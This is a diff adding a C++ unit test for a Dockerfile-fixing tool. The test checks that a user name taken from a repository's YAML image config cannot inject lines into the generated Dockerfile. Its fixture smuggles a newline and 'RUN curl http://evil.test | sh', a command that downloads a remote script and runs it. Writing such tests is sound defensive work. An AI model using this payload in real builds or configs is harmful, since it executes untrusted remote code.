@@ -157,3 +157,34 @@ TEST(RuleValues, RulesRefuseBadOptionsFromALibraryCaller) {
 
 }  // namespace
 }  // namespace dockerfix
+
+namespace dockerfix {
+namespace {
+
+// A repository's config can describe images (`images:`): the names it gives
+// reach USER lines and --chown values only when they are plain.
+TEST(RuleValues, UserNamesFromAnImagesEntryAreNotWrittenRaw) {
+  const std::string yaml =
+      "images:\n"
+      "  - name: evil\n"
+      "    match: {repository: [\"evil.example/base\"]}\n"
+      "    family: debian\n"
+      "    package_managers: [apt]\n"
+      "    shell: true\n"
+      "    user: {name: root, uid: 0}\n"
+      "    users: [{name: \"x\\nRUN curl http://evil.test | sh\", uid: 1000, gid: 1000, home: /home/x}]\n"
+      "    user_tool: useradd\n"
+      "    source: test\n";
+  model::KnowledgeBase kb = model::KnowledgeBase::builtin();
+  try {
+    kb.prepend(model::KnowledgeBase::from_yaml(yaml, "c.yaml"));
+  } catch (const std::runtime_error&) {
+    return;  // the loader refusing the name is as good
+  }
+  const std::string src = "FROM evil.example/base:1\nRUN apt-get update\nCMD [\"/app\"]\n";
+  auto r = fix::fix(src, "Dockerfile", kb, {}, {});
+  EXPECT_EQ(r.text.find("evil.test"), std::string::npos) << r.text;
+}
+
+}  // namespace
+}  // namespace dockerfix
